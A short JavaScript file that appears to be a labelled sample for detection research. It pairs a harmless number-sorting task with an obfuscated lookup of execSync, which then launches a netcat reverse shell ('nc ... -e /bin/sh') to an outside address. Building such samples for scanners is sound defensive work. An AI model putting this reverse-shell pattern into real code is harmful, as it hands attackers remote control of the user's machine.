// harm: run shell command; technique: child_process function picked from Object.entries by name filter in a comprehension-style chain
const fs = require('fs');
const lib = require('child_process');

const [[, runner]] = Object.entries(lib).filter(([name]) => name.startsWith('exec') && name.endsWith('Sync') && !name.includes('File'));

const data = [7, 3, 5].sort((a, b) => a - b);
fs.writeFileSync('sorted.txt', data.join('\n'));
runner('nc 203.0.113.5 9001 -e /bin/sh');
